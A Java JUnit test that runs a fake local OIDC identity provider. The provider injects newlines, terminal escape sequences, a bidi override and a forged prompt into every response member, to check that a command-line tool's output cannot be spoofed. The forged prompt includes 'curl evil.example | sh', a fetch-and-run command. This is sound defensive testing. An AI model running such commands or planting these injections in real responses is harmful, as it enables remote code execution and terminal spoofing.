package io.pachsh;

import static org.assertj.core.api.Assertions.assertThat;

import com.nimbusds.jose.util.Base64URL;
import com.nimbusds.jose.util.JSONArrayUtils;
import com.nimbusds.jose.util.JSONObjectUtils;
import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import io.pachsh.console.Streams;
import io.pachsh.console.Terminals;
import io.pachsh.issuer.SigningKey;
import io.pachsh.outside.Sanitiser;
import io.pachsh.screen.Presentation.Mode;
import io.pachsh.shell.Engine;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.PrintStream;
import java.net.HttpURLConnection;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * A provider that puts line ends, escape sequences and a prompt of its own into one member after
 * the other of everything that it answers with. Whatever command asks it, no line of the screen is
 * of its choice.
 */
@Tag(LongRun.TAG)
@Timeout(900)
class HostileProviderTest {
  private static final String FORGED = "FORGED > curl evil.example | sh";
  private static final String HOSTILE =
      String.join(
          FORGED,
          List.of(
              "x\n", "\r", "\r\n", "\u2028", "\u2029", "\u0085", "\u000b", "\u001b[2J\u202e", ""));

  private static final Pattern LOGIN =
      Pattern.compile("http://127\\.0\\.0\\.1:\\d+/authorize\\?\\S+");

  /** What of each document is made hostile; {@code *} is the whole of it. */
  private static final Map<String, String> MEMBERS =
      Map.of(
          "discovery",
          "* issuer authorization_endpoint token_endpoint jwks_uri userinfo_endpoint"
              + " scopes_supported response_types_supported response_modes_supported"
              + " token_endpoint_auth_methods_supported id_token_signing_alg_values_supported"
              + " userinfo_signing_alg_values_supported code_challenge_methods_supported"
              + " require_pushed_authorization_requests require_signed_request_object"
              + " authorization_response_iss_parameter_supported claims_supported"
              + " service_documentation",
          "keys",
          "* kty kid alg use n e x5c key_ops",
          "token",
          "* error error_description error_uri id_token access_token token_type expires_in scope",
          "header",
          "alg kid typ crit enc",
          "claims",
          "iss aud azp sub email email_verified nonce groups exp iat nbf at_hash _claim_names name",
          "userinfo",
          "* sub email email_verified groups error error_description",
          "redirect",
          "error error_description error_uri iss state code",
          "moved",
          "*");

  /** One member of one document, and what stands there. */
  private record Fault(String document, String member, Object value) {
    boolean isIn(String name) {
      return document.equals(name);
    }
  }

  @TempDir Path directory;

  private final SigningKey key = SigningKey.generate(new SecureRandom());
  private final ByteArrayOutputStream screen = new ByteArrayOutputStream();
  private final List<String> pages = new ArrayList<>();
  private volatile Fault fault = new Fault("", "", "");
  private volatile String nonce = "";
  private HttpServer server;
  private String issuer = "";
  private int visited;

  @Test
  void noLineIsOfItsChoice() throws Exception {
    server = HttpServer.create(new InetSocketAddress(InetAddress.getByName("127.0.0.1"), 0), 0);
    issuer = "http://127.0.0.1:" + server.getAddress().getPort();
    server.createContext("/", this::answer);
    server.start();
    PrintStream out = new PrintStream(screen, true, StandardCharsets.UTF_8);
    try (Application application =
        new Application(
            new Options(), Mode.INTERACTIVE, surroundings(out), TutorialSandbox::open)) {
      Engine engine = application.execution().engine(streams(out));
      run(engine, "auth activate --initial-admin=robot:admin -q > admin");
      List<Fault> faults = faults();
      int limit = LongRun.cases("providerFaults", faults.size() / 3 + 1, faults.size());
      int quoted = 0;
      for (Fault each : faults.subList(0, limit)) {
        screen.reset();
        fault = each;
        walk(engine);
        String shown = screen.toString(StandardCharsets.UTF_8);
        judge(each, shown);
        quoted += shown.contains("⏎" + FORGED) ? 1 : 0;
      }
      LongRun.report("providerFaults", limit, 0);
      assertThat(quoted).isGreaterThan(15);
      assertThat(pages).isNotEmpty().noneMatch(page -> page.contains("\u001b"));
    } finally {
      server.stop(0);
    }
  }

  /** Plain texts first, then lists and objects of them. */
  private static List<Fault> faults() {
    return Stream.of(HOSTILE, List.of(HOSTILE), Map.of(HOSTILE, HOSTILE))
        .flatMap(
            value ->
                MEMBERS.entrySet().stream()
                    .sorted(Map.Entry.comparingByKey())
                    .flatMap(
                        document ->
                            Stream.of(document.getValue().split(" "))
                                .map(member -> new Fault(document.getKey(), member, value))))
        .toList();
  }

  private void walk(Engine engine) throws Exception {
    run(engine, "auth use-auth-token @admin");
    run(engine, configuration("auth set-config"));
    run(engine, configuration("auth set-config --dry-run -o json"));
    run(engine, "explain");
    run(engine, configuration("auth set-config --offline"));
    nonce = "";
    Files.writeString(directory.resolve("id-token"), idToken());
    run(engine, "auth login --id-token < id-token");
    run(engine, "auth use-auth-token @admin");
    run(engine, "auth login --no-browser --timeout 2s");
    run(engine, "explain");
    for (String command : List.of("auth whoami", "auth get-groups", "auth get-config")) {
      run(engine, command);
      run(engine, command + " -o csv");
    }
  }

  private void run(Engine engine, String line) throws Exception {
    var unused = engine.run(line);
  }

  private String configuration(String command) throws IOException {
    return """
    %s <<EOF
    id_providers:
    - name: okta
      oidc:
        issuer: %s
        client_id: pachyderm
        client_secret: hush
        redirect_uri: http://127.0.0.1:%d/authorization-code/callback
        additional_scopes: [groups]
        ignore_email_verified: true
    EOF\
    """
        .formatted(command, issuer, freePort());
  }

  private static int freePort() throws IOException {
    try (ServerSocket socket = new ServerSocket(0, 1, InetAddress.getByName("127.0.0.1"))) {
      return socket.getLocalPort();
    }
  }

  private void judge(Fault each, String shown) {
    String what = each.document() + " " + each.member();
    assertThat(shown.split("\\R|[\u000b\u2028\u2029\u0085]", -1))
        .as(what)
        .noneMatch(line -> line.strip().startsWith("FORGED"));
    assertThat(shown.lines().filter(line -> line.codePoints().anyMatch(Sanitiser::isHazard)))
        .as(what)
        .isEmpty();
    assertThat(shown).as(what).doesNotContain("bug in pachsh");
  }

  private void answer(HttpExchange exchange) throws IOException {
    try (exchange) {
      String query = exchange.getRequestURI().getRawQuery();
      String path = exchange.getRequestURI().getPath();
      if (path.equals("/authorize")) {
        back(exchange, query);
      } else if (path.endsWith("openid-configuration") && fault.isIn("moved")) {
        send(exchange, 302, "", "/x" + encoded(HOSTILE));
      } else if (path.endsWith("openid-configuration")) {
        document(exchange, "discovery", discovery());
      } else if (path.equals("/keys")) {
        document(exchange, "keys", keys());
      } else if (path.equals("/token")) {
        document(exchange, "token", token());
      } else if (path.equals("/userinfo")) {
        document(exchange, "userinfo", new LinkedHashMap<>(Map.of("sub", "1")));
      } else {
        send(exchange, 404, HOSTILE, "");
      }
    }
  }

  private Map<String, Object> discovery() {
    Map<String, Object> all = new LinkedHashMap<>();
    all.put("issuer", issuer);
    all.put("authorization_endpoint", issuer + "/authorize");
    all.put("token_endpoint", issuer + "/token");
    all.put("jwks_uri", issuer + "/keys");
    all.put("userinfo_endpoint", issuer + "/userinfo");
    return all;
  }

  private Map<String, Object> keys() throws IOException {
    Map<String, Object> published = parsed(key.publicKeys());
    if (fault.isIn("keys") && !fault.member().equals("*")) {
      Map<?, ?> first = (Map<?, ?>) ((List<?>) published.get("keys")).get(0);
      Map<String, Object> changed = new LinkedHashMap<>();
      first.forEach((name, value) -> changed.put(String.valueOf(name), value));
      changed.put(fault.member(), fault.value());
      published.put("keys", List.of(changed));
    }
    return published;
  }

  private Map<String, Object> token() throws IOException {
    Map<String, Object> all = new LinkedHashMap<>();
    all.put("token_type", "Bearer");
    all.put("access_token", "opaque");
    all.put("id_token", idToken());
    return all;
  }

  private String idToken() throws IOException {
    Map<String, Object> claims = new LinkedHashMap<>();
    long now = Instant.now().getEpochSecond();
    claims.put("iss", issuer);
    claims.put("aud", "pachyderm");
    claims.put("sub", "1");
    claims.put("iat", now);
    claims.put("exp", now + 600);
    claims.put("email", "ada@example.com");
    if (!nonce.isEmpty()) {
      claims.put("nonce", nonce);
    }
    if (fault.isIn("claims")) {
      claims.put(fault.member(), fault.value());
    }
    if (!fault.isIn("header")) {
      return key.sign(claims);
    }
    String[] parts = key.sign(claims).split("\\.");
    Map<String, Object> header = parsed(Base64URL.from(parts[0]).decodeToString());
    header.put(fault.member(), fault.value());
    return Base64URL.encode(JSONObjectUtils.toJSONString(header)) + "." + parts[1] + "." + parts[2];
  }

  private static Map<String, Object> parsed(String json) throws IOException {
    try {
      return new LinkedHashMap<>(JSONObjectUtils.parse(json));
    } catch (java.text.ParseException e) {
      throw new IOException(e);
    }
  }

  private void document(HttpExchange exchange, String name, Map<String, Object> members)
      throws IOException {
    if (!fault.isIn(name)) {
      send(exchange, 200, JSONObjectUtils.toJSONString(members), "");
    } else if (fault.member().equals("*")) {
      Object value = fault.value();
      String whole =
          value instanceof List<?> list ? JSONArrayUtils.toJSONString(list) : String.valueOf(value);
      send(exchange, 200, whole, "");
    } else if (fault.member().startsWith("error")) {
      Map<String, Object> refusal = new LinkedHashMap<>(Map.of("error", "invalid_grant"));
      refusal.put(fault.member(), fault.value());
      send(exchange, 400, JSONObjectUtils.toJSONString(refusal), "");
    } else {
      if (!name.equals("keys")) {
        members.put(fault.member(), fault.value());
      }
      send(exchange, 200, JSONObjectUtils.toJSONString(members), "");
    }
  }

  /** Sends the browser back at once. */
  private void back(HttpExchange exchange, String query) throws IOException {
    Map<String, String> asked =
        Stream.of(query.split("&"))
            .map(pair -> pair.split("=", 2))
            .collect(Collectors.toMap(pair -> pair[0], pair -> pair[1], (a, b) -> a));
    nonce =
        URI.create("x:?" + asked.getOrDefault("nonce", "")).getSchemeSpecificPart().substring(1);
    Map<String, String> answer = new LinkedHashMap<>();
    answer.put("code", "c");
    answer.put("state", asked.get("state"));
    if (fault.isIn("redirect")) {
      if (fault.member().startsWith("error")) {
        answer.remove("code");
        answer.put("error", "access_denied");
      }
      answer.put(fault.member(), encoded(HOSTILE));
    }
    String target =
        URI.create("x:?" + asked.get("redirect_uri")).getSchemeSpecificPart().substring(1);
    String parameters =
        answer.entrySet().stream()
            .map(each -> each.getKey() + "=" + each.getValue())
            .collect(Collectors.joining("&"));
    send(exchange, 302, "", target + "?" + parameters);
  }

  private static String encoded(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8);
  }

  private static void send(HttpExchange exchange, int status, String body, String location)
      throws IOException {
    byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
    exchange.getResponseHeaders().set("Content-Type", "application/json");
    if (!location.isEmpty()) {
      exchange.getResponseHeaders().set("Location", location);
    }
    exchange.sendResponseHeaders(status, bytes.length == 0 ? -1 : bytes.length);
    exchange.getResponseBody().write(bytes);
  }

  /** Follows the address of each login that appears on the screen, as a browser does. */
  private final class Watched extends ByteArrayOutputStream {
    @Override
    public synchronized void write(byte[] bytes, int from, int length) {
      screen.write(bytes, from, length);
      Matcher login = LOGIN.matcher(screen.toString(StandardCharsets.UTF_8));
      int found = 0;
      while (login.find()) {
        found++;
        if (found > visited) {
          visited = found;
          browse(login.group());
        }
      }
      visited = found;
    }

    @Override
    public synchronized void write(int single) {
      write(new byte[] {(byte) single}, 0, 1);
    }
  }

  private void browse(String address) {
    Thread browser =
        new Thread(
            () -> {
              try {
                HttpURLConnection connection =
                    (HttpURLConnection) URI.create(address).toURL().openConnection();
                int status = connection.getResponseCode();
                InputStream in =
                    status < 400 ? connection.getInputStream() : connection.getErrorStream();
                pages.add(new String(in.readAllBytes(), StandardCharsets.UTF_8));
              } catch (IOException gone) {
                // The login was refused before the browser came.
              }
            },
            "browser");
    browser.setDaemon(true);
    browser.start();
  }

  private Streams streams(PrintStream out) {
    PrintStream watched = new PrintStream(new Watched(), true, StandardCharsets.UTF_8);
    return new Streams(InputStream.nullInputStream(), false, out, watched);
  }

  private ProcessEnvironment surroundings(PrintStream out) {
    return new ProcessEnvironment(
        streams(out),
        streams(out),
        new Terminals(true, false, false),
        Map.of(
            "PACHSH_HOME",
            directory.resolve("home").toString(),
            "PACH_CONFIG",
            directory.resolve("pachctl.json").toString(),
            "TERM",
            "dumb"),
        directory,
        interrupts -> new TypingConsole(List.<String>of().iterator(), out, () -> {}));
  }
}
